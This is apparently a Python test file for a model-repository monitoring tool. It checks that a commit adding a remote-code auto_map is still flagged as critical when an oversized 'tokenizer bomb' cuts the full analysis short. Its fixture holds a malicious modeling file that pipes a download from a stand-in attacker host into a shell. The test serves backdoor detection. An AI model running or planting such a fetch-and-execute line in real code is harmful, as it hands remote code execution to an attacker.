"""A bomb file that stays in the tree cannot hide a later backdoor (issue 16): a revision whose
full analysis runs over its budget gets a reduced pass (config, code files, weights) in a fresh
worker, recorded beside the ``analysis.cut`` change; before, every revision after the bomb was
"not analysed", so an ``auto_map`` pointing at remote code two commits later was never named."""

from __future__ import annotations

from pathlib import Path

from storage import open_store
from tests.daemon.helpers import config_bytes
from tests.e2e.cli_helpers import Cli
from tests.hostile.test_cost_bounds import _tokenizer_bomb
from tests.hubemu import RepoBuilder

_AUTO_MAP = {"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}
_EVIL = b"import os\nos.system('curl -s http://attacker.invalid | sh')\n\nclass EvilForCausalLM:\n    pass\n"


def test_a_backdoor_after_a_persisting_bomb_is_named_and_a_fine_revision_is_analysed(tmp_path: Path) -> None:
    b = RepoBuilder.init(tmp_path / "bomb.git")
    b.commit({"config.json": config_bytes()}, title="baseline")
    bombed = b.commit({"tokenizer.json": _tokenizer_bomb(300_000)}, title="tokenizer bomb, kept from now on")
    backdoor = b.commit({"config.json": config_bytes(auto_map=_AUTO_MAP), "modeling_evil.py": _EVIL},
                        title="remote code while the bomb stays")
    fine = b.commit({"tokenizer.json": _tokenizer_bomb(10), "config.json": config_bytes(auto_map=_AUTO_MAP,
                                                                                       eos_token_id=9)},
                    title="bomb gone")
    cli = Cli(tmp_path / "cli", f"sqlite:///{tmp_path / 'hw.db'}",
              extra_config="[limits]\nanalysis_memory_mb = 64\nanalysis_seconds = 120\n")
    tracked = cli.ok("track", str(b.path), "--as", "evil/bomb", "--json").json()
    assert tracked["poll"]["status"] == "ok" and tracked["poll"]["new_revisions"] == 4
    store = open_store(f"sqlite:///{tmp_path / 'hw.db'}")
    by_sha = {r.sha: r for r in store.history("evil/bomb")}
    repo = store.get_repo("evil/bomb")
    store.close()
    assert repo is not None and repo.head_sha == fine

    first = by_sha[bombed]  # the bomb itself: nothing else changed, the tokenizer is named as not compared
    assert first.severity == "HIGH" and [c.topics for c in first.changes] == [("analysis.cut",)]
    assert first.changes[0].summary.startswith("analysed in part: over its memory budget of 64 MiB")
    assert first.changes[0].detail["not_compared"] == ["tokenizer.json"]

    hidden = by_sha[backdoor]  # the bomb is still there: the full pass is cut, the reduced one names the backdoor
    topics = {topic for c in hidden.changes for topic in c.topics}
    assert hidden.severity == "CRITICAL"
    assert {"analysis.cut", "config.auto_map.added", "code.auto_map_target.added"} <= topics
    assert "memory budget of 64 MiB" in (hidden.error or "")
    code = next(c for c in hidden.changes if c.path == "modeling_evil.py")
    assert code.detail["diff"] is None and "reduced analysis" in code.detail["not_diffed"]
    cut = next(c for c in hidden.changes if "analysis.cut" in c.topics)
    assert cut.detail["not_compared"] == []  # the tokenizer did not change in this commit

    after = by_sha[fine]  # no bomb left: analysed in full, as before
    assert after.error is None and not any("analysis.cut" in c.topics for c in after.changes)
    config = [c for c in after.changes if c.path == "config.json"]
    assert [c.kind.value for c in config] == ["config"] and "eos_token_id" in config[0].summary
